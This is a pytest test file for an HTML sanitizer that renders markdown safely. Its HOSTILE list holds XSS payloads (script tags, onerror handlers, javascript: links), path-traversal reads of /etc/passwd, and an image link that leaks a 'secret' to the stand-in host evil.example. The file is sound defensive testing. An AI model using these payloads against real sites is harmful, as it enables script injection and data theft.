"""Hostile text as HTML: nothing runs, nothing is fetched, nothing poses as something else."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qwenbelt.apps.gui.drawing.safe_html import MAX_TABLE_ROWS, RenderContext, markdown_html

KNOWN = {"chart.png": "/qb/file/s/chart.png", "report.pdf": "/qb/file/s/report.pdf"}
AROUND = RenderContext("en", KNOWN.get, KNOWN.__contains__)
TAGS = set(
    "p h1 h2 h3 h4 h5 h6 em strong s code pre blockquote ul ol li hr br table thead tbody tr th td "
    "a img span small div button sup "
    "math mrow mi mn mo mtext mspace msup msub msubsup munder mover munderover mfrac msqrt mroot "
    "mtable mtr mtd mstyle mpadded mphantom menclose".split()
)
ATTRIBUTES = set(
    "class href title target rel src alt type style tabindex start "
    "data-file data-page data-host data-diagram id role aria-label aria-level alttext "
    "display displaystyle scriptlevel mathvariant stretchy fence form separator lspace rspace "
    "width height depth linethickness columnalign rowspacing columnspacing columnlines rowlines "
    "notation accent accentunder movablelimits minsize maxsize symmetric largeop".split()
)


class _Seen(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def check(html: str) -> _Seen:
    seen = _Seen(html)
    assert set(seen.tags) <= TAGS, html
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES, html
        if name == "src":  # in a picture no script of an SVG runs, and it loads nothing
            assert value in KNOWN.values() or value.startswith("data:image/svg+xml;base64,"), html
        if name == "href":
            assert value.startswith(("http://", "https://", "#qb-note-")), html
        if name == "id":
            assert re.fullmatch(r"qb-note-\w+(-ref)?", value), html
        if name == "style":
            assert (tag, value.partition(":")[0]) in {("th", "text-align"), ("td", "text-align")}
    return seen


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<style>@import url(//evil.example)</style>",
    "<!-- --><b onclick=x>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&#58;alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/x)",
    "[a](/logout)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/leak?q=secret)",
    "![x](//evil.example/p.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "![x](../../etc/passwd)",
    "![x](chart.png/../../../etc/passwd)",
    "![x](..%2f..%2fetc%2fpasswd)",
    '![a" onerror="alert(1)](chart.png)',
    '[a](https://x.example/"onmouseover="alert(1))',
    '```"><script>alert(1)</script>\nx\n```',
    "[report.pdf p.3](javascript:alert(1))",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[ ](https://[::1)",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$ $\style{background:url(//evil.example)}{x}$",
    r"\[ \color{red;background:url(//evil.example)}{x} \]",
    r"$$\mathrm{&lt;script&gt;}$$",
    r"$\unicode{x3c}script\unicode{x3e}$",
    "$" * 3000,
    "$" + "{" * 3000 + "}" * 3000 + "$",
    "\\(" * 1500,
    '[^"><script>]: x\n\ny [^"><script>]',
    "[^qb-stop]: x\n\ny [^qb-stop]",
    "[^1]: [a](javascript:alert(1))",
    "- [x] <img src=x onerror=alert(1)>",
    'https://x.example/"><script>alert(1)</script>',
    "https://x.example/'onmouseover='alert(1)",
    "```svg\n<svg onload='alert(1)'><script>alert(1)</script></svg>\n```",
    "```svg\n<svg><image href='https://evil.example/p.png'/></svg>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "```python\n'" + "\\" * 5000,
    "# [a](javascript:alert(1))\n###### deep",
    ">" * 500 + " deep",
    "[" * 2000,
    "*" * 3000,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_only_text(text: str) -> None:
    html = markdown_html(text, AROUND)
    check(html)
    assert "evil.example" not in [v for _, name, v in _Seen(html).attributes if name == "src"]


@given(st.text(alphabet="<>\"'`=![]()/\\:#&; \n|-*_~abscriptjvhdox.png%0$^{}", max_size=120))
def test_any_text_is_safe(text: str) -> None:
    check(markdown_html(text, AROUND))


def test_a_link_names_its_host_and_opens_alone() -> None:
    seen = check(markdown_html("[my bank](https://evil.example/login)", AROUND))
    found = {name: value for tag, name, value in seen.attributes if tag == "a"}
    assert found["data-host"] == "evil.example"
    assert found["rel"] == "noopener noreferrer nofollow"


def test_a_picture_of_the_conversation_is_shown_and_no_other() -> None:
    html = markdown_html("![A chart](chart.png) ![B](https://evil.example/b.png)", AROUND)
    seen = check(html)
    assert ("img", "src", "/qb/file/s/chart.png") in seen.attributes
    assert seen.tags.count("img") == 1
    assert "picture not loaded: https://evil.example/b.png" in html


@pytest.mark.parametrize(
    "text",
    ["[report.pdf p.3]", "[report.pdf, p. 3]", "[report.pdf 第3页]", "[report.pdf pp.3-4]"],
)
def test_a_citation_opens_a_page(text: str) -> None:
    seen = check(markdown_html(f"It is so {text}.", AROUND))
    assert ("button", "data-file", "report.pdf") in seen.attributes
    assert ("button", "data-page", "3") in seen.attributes


def test_a_citation_of_an_unknown_file_stays_text() -> None:
    html = markdown_html("[other.pdf p.3]", AROUND)
    assert "<button" not in html
    assert "[other.pdf p.3]" in html


def test_a_huge_table_is_cut() -> None:
    text = "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 20_000
    html = markdown_html(text, AROUND)
    assert html.count("<tr>") <= MAX_TABLE_ROWS
    assert "rows left out" in html
